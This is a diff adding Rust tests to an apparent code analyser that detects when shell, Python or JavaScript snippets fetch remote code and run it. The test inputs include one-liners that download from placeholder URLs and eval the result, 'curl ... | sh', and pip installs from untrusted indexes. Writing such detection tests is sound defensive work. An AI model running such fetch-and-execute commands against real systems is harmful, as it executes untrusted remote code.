@@ -104,6 +104,60 @@ fn python_names_are_followed_to_what_they_mean() {
 }
 
 #[test]
+fn the_program_that_runs_a_script_is_known() {
+    let runs = &["run python3 -m pip install --index-url http://a.invalid x"];
+    for text in [
+        "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', \
+         '--index-url', 'http://a.invalid', 'x'])\n",
+        "from sys import executable\nimport os\nos.system(f'{executable} -m pip install \
+         --index-url http://a.invalid x')\n",
+    ] {
+        tells(Language::Python, text, runs);
+    }
+    tells(
+        Language::JavaScript,
+        "require('child_process').spawnSync(process.execPath, ['setup.js', '--quiet']);\n",
+        &["run node setup.js --quiet"],
+    );
+}
+
+#[test]
+fn functions_in_code_inside_code_are_of_its_language() {
+    let runs_fetched = |line: &String| line.contains("eval <- ") && line.ends_with("[fetched]");
+    for text in [
+        "node -e \"fetch('https://a.invalid').then(r=>r.text()).then(t=>eval(t))\"\n",
+        "node -e \"require('https').get('https://a.invalid',r=>{let d='';r.on('data',c=>d+=c);\
+         r.on('end',()=>eval(d))})\"\n",
+        "python3 -c \"import os\ndef go(x):\n    os.system(x)\ngo('node -e \\\"fetch(1).then(t=>eval(t))\\\"')\"\n",
+    ] {
+        let told = told(Language::Shell, text);
+        assert!(told.iter().any(runs_fetched), "{text}: {told:#?}");
+    }
+}
+
+#[test]
+fn what_other_interpreters_fetch_and_run_is_seen() {
+    let runs_fetched = |line: &String| line.contains(" <- ") && line.ends_with("[fetched]");
+    for text in [
+        "ruby -e \"require 'open-uri'; eval(URI.open('https://a.invalid/p').read)\"",
+        "perl -MLWP::Simple -e 'eval get(\"https://a.invalid/p\")'",
+        "php -r \"eval(file_get_contents('https://a.invalid/p'));\"",
+        "perl -e 'system(\"curl https://a.invalid/p | sh\")'",
+    ] {
+        let told = told(Language::Shell, text);
+        assert!(told.iter().any(runs_fetched), "{text}: {told:#?}");
+    }
+    for text in [
+        "perl -e 'system(\"open https://a.invalid\")'",
+        "php -r \"echo file_get_contents('https://a.invalid/p');\"",
+        "ruby -e \"eval('1 + 1')\"",
+    ] {
+        let told = told(Language::Shell, text);
+        assert!(!told.iter().any(runs_fetched), "{text}: {told:#?}");
+    }
+}
+
+#[test]
 fn python_values_flow_through_functions_loops_and_objects() {
     tells(
         Language::Python,
